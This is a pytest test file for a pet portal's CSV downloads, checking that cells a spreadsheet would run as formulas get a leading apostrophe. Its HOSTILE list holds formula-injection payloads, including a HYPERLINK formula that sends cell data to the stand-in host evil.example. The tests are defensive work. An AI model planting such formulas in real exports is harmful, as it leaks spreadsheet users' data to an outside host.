"""The portal's CSV downloads share one writer: streamed, and a text a spreadsheet would run comes back with a
leading ' (seen through an import's `results.csv`, against the real reference store).
"""

import csv
import io
from contextlib import contextmanager

import pytest
from flask import request_finished

from petportal.downloads import spreadsheet_safe

from helpers import creates, finished, press, upload

BOM = "\ufeff"
# What people (or a store's other clients) may name things, that a spreadsheet would run or mangle.
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1", "-2", "@SUM(A1:A9)", "\tTabbed", "\rReturned"]
# Names the import's own checks let through (they refuse control characters, and trim tabs).
HOSTILE_IMPORTED = HOSTILE[:4]


def rows_of(response):
    """The CSV's rows, header first, after the byte order mark every download starts with."""
    text = response.get_data(as_text=True)
    assert text.startswith(BOM)
    return list(csv.reader(io.StringIO(text.removeprefix(BOM), newline="")))


@contextmanager
def sent_responses(app):
    """The Flask responses of the requests answered meanwhile, as the views and hooks made them."""
    seen = []

    def keep(_sender, response, **_extra):
        seen.append(response)

    with request_finished.connected_to(keep, app):
        yield seen


# --- what every download shares ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "cell, written",
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Rex", "Rex"),
        ("", ""),
        ("a=b", "a=b"),
        (-2, -2),
        (None, None),
    ],
)
def test_only_text_that_a_spreadsheet_would_run_is_changed(cell, written):
    assert spreadsheet_safe(cell) == written


def as_csv(rows):
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    return out.getvalue()


def test_the_import_results_csv_writes_names_a_spreadsheet_would_run_as_text(portal_app, auth_for, production_store):
    staff = auth_for(portal_app, "staff")
    path = upload(staff, as_csv([("name", "categoryId", "status"), *((name, -3, "") for name in HOSTILE_IMPORTED)]))
    path = path.headers["Location"]
    press(staff, path, "start")
    assert finished(staff, path)["created"] == len(HOSTILE_IMPORTED)
    with sent_responses(portal_app) as sent:
        response = staff.get(f"{path}/results.csv")
    assert [flask_response.is_streamed for flask_response in sent] == [True]
    header, *rows = rows_of(response)
    assert header == ["line", "name", "categoryId", "status", "outcome", "id", "message"]
    assert [row[1] for row in rows] == ["'" + name for name in HOSTILE_IMPORTED]
    # The category id stays the number it is.
    assert {row[2] for row in rows} == {"-3"} and {row[4] for row in rows} == {"created"}
    assert sorted(created["name"] for created in creates(production_store)) == sorted(HOSTILE_IMPORTED)
